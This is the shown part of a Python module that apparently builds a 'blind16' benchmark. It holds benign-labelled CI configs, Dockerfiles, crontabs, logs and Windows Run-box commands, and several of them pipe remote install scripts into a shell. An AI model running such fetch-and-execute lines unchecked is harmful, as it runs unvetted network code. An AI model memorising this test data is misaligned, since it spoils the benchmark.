        GH + "shop/blob/main/azure-pipelines.yml",
        "pool:\n  vmImage: windows-latest\nsteps:\n  - task: UseDotNet@2\n    inputs:\n      version: 8.x\n  - script: dotnet test --configuration Release",
    ),
    (
        GH + "shop/blob/main/Jenkinsfile",
        "pipeline {\n  agent { docker { image 'node:22' } }\n  stages {\n    stage('Test') { steps { sh 'npm ci && npm test' } }\n  }\n}",
    ),
    (
        GH + "shop/blob/main/.circleci/config.yml",
        "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/go:1.23\n    steps:\n      - checkout\n      - run: go test ./...",
    ),
    (
        GH + "shop/blob/main/bitbucket-pipelines.yml",
        "image: maven:3.9-eclipse-temurin-21\npipelines:\n  default:\n    - step:\n        caches: [maven]\n        script:\n          - mvn -B verify",
    ),
    (
        GH + "shop/blob/main/Dockerfile",
        'FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nENV PATH="/root/.local/bin:$PATH"',
    ),
    (
        GH + "shop/blob/main/Dockerfile.rust",
        'FROM rust:1.82 AS build\nWORKDIR /src\nCOPY . .\nRUN cargo build --release\nFROM gcr.io/distroless/cc-debian12\nCOPY --from=build /src/target/release/shop /shop\nENTRYPOINT ["/shop"]',
    ),
    (
        GH + "shop/blob/main/Dockerfile.bun",
        'FROM oven/bun:1 AS base\nWORKDIR /usr/src/app\nCOPY package.json bun.lockb ./\nRUN bun install --frozen-lockfile --production\nCOPY . .\nUSER bun\nEXPOSE 3000/tcp\nENTRYPOINT ["bun", "run", "index.ts"]',
    ),
    (
        GH + "shop/blob/main/Dockerfile.deno",
        'FROM denoland/deno:2.1.4\nWORKDIR /app\nCOPY . .\nRUN deno cache main.ts\nCMD ["run", "--allow-net", "main.ts"]',
    ),
    (
        GH + "shop/blob/main/Dockerfile.node",
        "FROM ubuntu:24.04\nRUN apt-get update && apt-get install -y curl\nRUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && apt-get install -y nodejs\nWORKDIR /app\nCOPY . .\nRUN npm ci",
    ),
    (
        GH + "shop/blob/main/Dockerfile.win",
        "FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL [\"powershell\", \"-Command\"]\nRUN Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile vc_redist.x64.exe; Start-Process .\\vc_redist.x64.exe -ArgumentList '/install','/quiet' -Wait",
    ),
    (
        GH + "shop/blob/main/compose.yaml",
        "services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - pgdata:/var/lib/postgresql/data\n  web:\n    build: .\n    ports: ['8000:8000']\n    depends_on: [db]\nvolumes:\n  pgdata: {}",
    ),
    (
        GH + "shop/blob/main/Makefile",
        "PY ?= python3\n.PHONY: venv test\nvenv:\n\t$(PY) -m venv .venv && .venv/bin/pip install -e '.[dev]'\ntest:\n\t.venv/bin/pytest -q",
    ),
    (
        GH + "shop/blob/main/Makefile.tools",
        "tools:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(GOPATH)/bin v1.61.0\n\tgo install golang.org/x/tools/cmd/goimports@latest",
    ),
    (
        GH + "shop/blob/main/justfile",
        "default: lint test\nlint:\n    ruff check .\ntest:\n    pytest -q\nserve:\n    uvicorn app:app --reload",
    ),
    (
        GH + "shop/blob/main/Taskfile.yml",
        "version: '3'\ntasks:\n  build:\n    cmds:\n      - go build -o bin/app ./cmd/app\n  run:\n    deps: [build]\n    cmds:\n      - ./bin/app",
    ),
    (
        GH + "shop/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n    "lint": "eslint .",\n    "preview": "vite preview"\n  }\n}',
    ),
    (
        GH + "shop/blob/main/pyproject.toml",
        '[project]\nname = "shop"\nversion = "1.4.0"\nrequires-python = ">=3.11"\ndependencies = ["fastapi>=0.115", "sqlalchemy>=2.0"]\n\n[tool.ruff]\nline-length = 100',
    ),
    (
        GH + "shop/blob/main/Cargo.toml",
        '[package]\nname = "shop"\nversion = "0.3.1"\nedition = "2021"\n\n[dependencies]\ntokio = { version = "1", features = ["full"] }\naxum = "0.7"',
    ),
    (
        GH + "shop/blob/main/go.mod",
        "module github.com/acme-example/shop\n\ngo 1.23\n\nrequire (\n\tgithub.com/go-chi/chi/v5 v5.1.0\n\tgithub.com/jackc/pgx/v5 v5.7.1\n)",
    ),
    (
        GH + "shop/blob/main/.pre-commit-config.yaml",
        "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.4\n    hooks:\n      - id: ruff\n        args: [--fix]\n      - id: ruff-format",
    ),
    (
        GH + "shop/blob/main/.devcontainer/devcontainer.json",
        '{\n  "image": "mcr.microsoft.com/devcontainers/python:3.12",\n  "features": { "ghcr.io/devcontainers/features/node:1": {} },\n  "postCreateCommand": "pip install -e .[dev]"\n}',
    ),
    (
        GH + "shop/blob/main/.devcontainer/post-create.sh",
        "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsSL https://bun.sh/install | bash\npip install -e '.[dev]'\npre-commit install",
    ),
    (
        GH + "shop/blob/main/Vagrantfile",
        'Vagrant.configure("2") do |config|\n  config.vm.box = "bento/ubuntu-24.04"\n  config.vm.provision "shell", inline: "curl -fsSL https://get.docker.com | sh"\nend',
    ),
    (
        GH + "shop/blob/main/cloud-init.yaml",
        "#cloud-config\nruncmd:\n  - curl -fsSL https://tailscale.com/install.sh | sh\n  - tailscale up --authkey ${TS_AUTHKEY} --ssh",
    ),
    (
        GH + "shop/blob/main/ansible/roles/docker/tasks/main.yml",
        "- name: Add Docker GPG key\n  ansible.builtin.get_url:\n    url: https://download.docker.com/linux/ubuntu/gpg\n    dest: /etc/apt/keyrings/docker.asc\n    mode: '0644'",
    ),
    (
        GH + "shop/blob/main/terraform/main.tf",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "corp-example-logs"\n  tags = { Environment = "prod" }\n}',
    ),
    (
        GH + "shop/blob/main/k8s/cronjob.yaml",
        "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: cleanup\nspec:\n  schedule: '0 3 * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: cleanup\n              image: registry.corp.example/tools:1.2\n              command: ['python', '-m', 'tools.cleanup']\n          restartPolicy: OnFailure",
    ),
    (
        GH + "shop/blob/main/helm/values.yaml",
        'replicaCount: 2\nimage:\n  repository: registry.corp.example/shop\n  tag: "1.4.0"\nresources:\n  limits:\n    memory: 512Mi',
    ),
    (
        GH + "shop/blob/main/nginx.conf",
        "location /api/ {\n    proxy_pass http://127.0.0.1:8000/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}",
    ),
    (
        GH + "shop/blob/main/Caddyfile",
        "shop.corp.example {\n    reverse_proxy localhost:8000\n    encode gzip\n    log {\n        output file /var/log/caddy/shop.log\n    }\n}",
    ),
    (
        GH + "shop/blob/main/systemd/shop.service",
        "[Unit]\nDescription=Shop API\nAfter=network-online.target\n\n[Service]\nUser=shop\nExecStart=/opt/shop/.venv/bin/uvicorn app:app --port 8000\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://wiki.ops-team.example/crontab/backups",
        "# m h dom mon dow command\n15 2 * * * /usr/local/bin/pg_backup.sh >> /var/log/pg_backup.log 2>&1\n0 4 * * 0 /usr/bin/find /backups -mtime +30 -delete",
    ),
    (
        "https://wiki.ops-team.example/crontab/certs",
        "0 3 * * * certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    ),
    (
        "https://wiki.ops-team.example/crontab/updates",
        "30 5 * * 1 apt-get update -qq && apt-get -y -qq upgrade >> /var/log/weekly-upgrade.log 2>&1",
    ),
    (
        "https://wiki.ops-team.example/crontab/self-update",
        "# weekly refresh of the uv binary on build hosts\n0 6 * * 1 curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1",
    ),
    (
        "https://wiki.ops-team.example/windows/task-xml",
        "<Task><Triggers><CalendarTrigger><StartBoundary>2027-01-01T02:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Actions><Exec><Command>C:\\Scripts\\backup.cmd</Command></Exec></Actions></Task>",
    ),
    (
        "https://wiki.ops-team.example/windows/profile",
        "# Microsoft.PowerShell_profile.ps1\nSet-PSReadLineOption -PredictionSource History\nImport-Module posh-git\nSet-Alias ll Get-ChildItem",
    ),
    (
        "https://wiki.ops-team.example/linux/bashrc",
        "# ~/.bashrc additions\nexport EDITOR=vim\nalias gs='git status -sb'\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\neval \"$(direnv hook bash)\"",
    ),
    (
        "https://wiki.ops-team.example/linux/sshconfig",
        "Host bastion\n  HostName bastion.corp.example\n  User jdoe\n  IdentityFile ~/.ssh/id_ed25519_corp\nHost 10.20.*\n  ProxyJump bastion",
    ),
    (
        "https://wiki.ops-team.example/linux/sudoers",
        "# /etc/sudoers.d/deploy (visudo -f)\ndeploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart shop.service",
    ),
    (
        "https://wiki.ops-team.example/linux/fstab",
        "//fs02.corp.example/shared /mnt/shared cifs credentials=/etc/smb-cred,uid=1000,gid=1000,vers=3.1.1 0 0",
    ),
    (
        "https://wiki.ops-team.example/registry/proxy",
        'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings]\n"ProxyEnable"=dword:00000001\n"ProxyServer"="proxy.corp.example:8080"',
    ),
    (
        "https://logs.corp.example/app/2027-02-11",
        "2027-02-11T08:02:11.512Z ERROR [orders] payment provider timeout after 30000 ms (order_id=16-88231, attempt=3)\n2027-02-11T08:02:11.514Z INFO  [orders] scheduling retry in 120 s",
    ),
    (
        "https://logs.corp.example/app/2027-02-12",
        "Traceback (most recent call last):\n  File \"/app/shop/views.py\", line 88, in checkout\n    total = cart.total()\n  File \"/app/shop/cart.py\", line 41, in total\n    return sum(i.price * i.qty for i in self.items)\nTypeError: unsupported operand type(s) for *: 'NoneType' and 'int'",
    ),
    (
        "https://logs.corp.example/app/2027-02-13",
        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.shop.Customer.validate(Customer.java:57)\n\tat com.acme.shop.Main.main(Main.java:14)',
    ),
    (
        "https://logs.corp.example/app/2027-02-14",
        "System.InvalidOperationException: Sequence contains no elements\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\n   at Orders.Api.Controllers.InvoiceController.Get(Int32 id) in C:\\src\\Orders.Api\\Controllers\\InvoiceController.cs:line 42",
    ),
    (
        "https://logs.corp.example/app/2027-02-15",
        "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.parseArgs(...)\n\t/src/cmd/app/main.go:27 +0x1d4",
    ),
    (
        "https://logs.corp.example/app/2027-02-16",
        "thread 'main' panicked at src/config.rs:19:41:\ncalled `Result::unwrap()` on an `Err` value: Os { code: 2, kind: NotFound, message: \"No such file or directory\" }\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace",
    ),
    (
        "https://logs.corp.example/app/2027-02-17",
        "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (webpack-internal:///./src/ProductList.jsx:12:23)\n    at renderWithHooks (react-dom.development.js:16305:18)",
    ),
    (
        "https://logs.corp.example/nginx/2027-02-18",
        '10.0.9.31 - - [18/Feb/2027:10:11:04 +0000] "GET /api/orders?page=3 HTTP/2.0" 200 5123 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6)"',
    ),
    (
        "https://logs.corp.example/auth/2027-02-19",
        "Feb 19 07:58:31 bastion sshd[20114]: Accepted publickey for jdoe from 10.20.4.17 port 50122 ssh2: ED25519 SHA256:4q1XH1r8pY2x4v0Qk3cXJ8xg5bq2kF6Ykq1s0WcUu9E",
    ),
    (
        "https://logs.corp.example/windows/2027-02-20",
        "Log Name: System\nSource: Service Control Manager\nEvent ID: 7036\nDescription: The Windows Update service entered the running state.",
    ),
    (
        "https://logs.corp.example/ci/2027-02-21",
        "Run curl -LsSf https://astral.sh/uv/install.sh | sh\ndownloading uv 0.5.11 x86_64-unknown-linux-gnu\ninstalling to /home/runner/.local/bin\n  uv\n  uvx\neverything's installed!",
    ),
    (
        "https://logs.corp.example/ci/2027-02-22",
        "Step 4/9 : RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -\n ---> Running in 5e1c0a9b7d21\n## Installing the NodeSource Node.js 22.x repo...",
    ),
    (
        "https://logs.corp.example/ci/2027-02-23",
        "npm warn deprecated inflight@1.0.6: This module is not supported, and leaks memory.\nadded 812 packages, and audited 813 packages in 19s\nfound 0 vulnerabilities",
    ),
    (
        "https://logs.corp.example/ci/2027-02-24",
        "error[E0382]: borrow of moved value: `cfg`\n  --> src/main.rs:21:20\n   |\n18 |     let app = App::new(cfg);\n   |                        --- value moved here",
    ),
    (
        "https://logs.corp.example/ci/2027-02-25",
        "FAILED tests/test_cart.py::test_discount - AssertionError: assert Decimal('9.90') == Decimal('9.99')\n========================= 1 failed, 212 passed in 14.03s =========================",
    ),
    (
        GH + "shop/blob/main/src/api.ts",
        "export async function getOrders(page = 1): Promise<Order[]> {\n  const res = await fetch(`/api/orders?page=${page}`, { credentials: 'same-origin' });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}",
    ),
    (
        GH + "shop/blob/main/src/download.go",
        "resp, err := http.Get(url)\nif err != nil {\n\treturn err\n}\ndefer resp.Body.Close()\n_, err = io.Copy(f, resp.Body)",
    ),
    (
        GH + "shop/blob/main/scripts/fetch_rates.py",
        "import httpx\n\nrates = httpx.get('https://api.frankfurter.app/latest', params={'from': 'EUR'}, timeout=10).json()['rates']\nprint(rates['USD'])",
    ),
    (
        GH + "shop/blob/main/scripts/install-hooks.sh",
        "#!/bin/sh\nset -e\ngit config core.hooksPath .githooks\nchmod +x .githooks/*\necho 'hooks installed'",
    ),
    (
        GH + "shop/blob/main/scripts/setup.ps1",
        "#Requires -Version 7\n$ErrorActionPreference = 'Stop'\nwinget install -e --id Python.Python.3.12 --silent\npy -3.12 -m venv .venv\n.\\.venv\\Scripts\\pip install -e .[dev]",
    ),
    (
        GH + "shop/blob/main/scripts/bootstrap.sh",
        "#!/usr/bin/env bash\nset -euo pipefail\ncommand -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh\nuv sync",
    ),
    (
        GH + "shop/blob/main/.vscode/launch.json",
        '{\n  "version": "0.2.0",\n  "configurations": [\n    { "name": "API", "type": "debugpy", "request": "launch", "module": "uvicorn", "args": ["app:app", "--reload"] }\n  ]\n}',
    ),
    (
        GH + "shop/blob/main/.editorconfig",
        "root = true\n\n[*]\nindent_style = space\nindent_size = 4\nend_of_line = lf\ninsert_final_newline = true",
    ),
    (GH + "shop/blob/main/.gitattributes", "* text=auto eol=lf\n*.ps1 text eol=crlf\n*.png binary"),
    (
        GH + "shop/blob/main/renovate.json",
        '{\n  "$schema": "https://docs.renovatebot.com/renovate-schema.json",\n  "extends": ["config:recommended", ":semanticCommits"],\n  "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }]\n}',
    ),
    (
        GH + "shop/blob/main/.github/dependabot.yml",
        "version: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /\n    schedule:\n      interval: weekly",
    ),
    (
        GH + "shop/blob/main/sql/migrations/0007_add_index.sql",
        "CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_orders_customer_created ON orders (customer_id, created_at DESC);",
    ),
    (
        GH + "shop/blob/main/prometheus/alerts.yml",
        'groups:\n  - name: shop\n    rules:\n      - alert: HighErrorRate\n        expr: rate(http_requests_total{status=~"5.."}[5m]) > 0.05\n        for: 10m',
    ),
    (
        GH + "shop/blob/main/docs/install.md",
        "## Install\n\n```sh\ncurl -fsSL https://get.docker.com | sh\ndocker compose up -d\n```\n\nThen open http://localhost:8000.",
    ),
    (
        GH + "shop/blob/main/docs/windows.md",
        "## Windows\n\n```powershell\nwinget install -e --id Docker.DockerDesktop\nwinget install -e --id Git.Git\n```",
    ),
]:
    ok(CONFIG, UNK, page, text)

# Run-box entries with the arguments people add (help-desk instructions, muscle memory).
for text in [
    "control /name Microsoft.Troubleshooting",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=CredmanVault",
    "ms-settings:troubleshoot",
    "ms-settings:workplace",
    "mstsc /v:rdsh02.corp.example /multimon",
    "mstsc /v:jump01.corp.example /restrictedAdmin",
    "\\\\fs02.corp.example\\Abteilungen\\Einkauf\\Lieferanten",
    "\\\\nas01.home.example\\media\\Filme",
    "%appdata%\\Microsoft\\Templates\\Normal.dotm",
    "%localappdata%\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache",
    "cmd /k ping -t 10.0.8.1",
    'cmd /k "cd /d C:\\Projects\\invoice-tool && dir"',
    'cmd /k systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
    "powershell -NoExit -Command Get-NetIPConfiguration",
    "mmc compmgmt.msc /computer:ws-0413",
    "dsa.msc",
    "gpmc.msc",
    "explorer.exe /e,C:\\Users\\Public\\Documents",
    "notepad %windir%\\WindowsUpdate.log",
    "iexplore.exe",
    "msra /offerra ws-0413.corp.example",
    'shutdown /r /t 60 /c "Updates installed, restarting in 1 minute"',
]:
    ok(RUNBOX, RUN, None, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind16", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind16", BENIGN)


def main() -> None:
    blindkit.main("blind16", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
